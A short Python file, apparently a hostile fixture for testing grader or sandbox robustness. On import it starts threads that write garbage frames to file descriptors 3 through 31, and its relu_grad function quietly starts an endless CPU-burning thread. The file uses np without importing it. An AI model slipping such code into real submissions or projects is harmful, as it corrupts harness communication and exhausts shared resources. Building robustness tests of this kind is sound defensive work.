"""Leaves threads running that spin, print, and scribble on every file descriptor."""
import os
import threading
import time


def scribble():
    while True:
        for fd in range(3, 32):
            try:
                os.write(fd, b"\x00\x00\x00\x00\x00\x00\x00\x10garbage-frame!!!")
            except OSError:
                pass
        time.sleep(0.01)


for _ in range(4):
    try:
        threading.Thread(target=scribble, daemon=True).start()
    except RuntimeError:
        pass


def relu_grad(z):
    try:
        threading.Thread(target=lambda: [0 for _ in iter(int, 1)], daemon=True).start()
    except RuntimeError:
        pass
    return (z > 0).astype(np.float64)
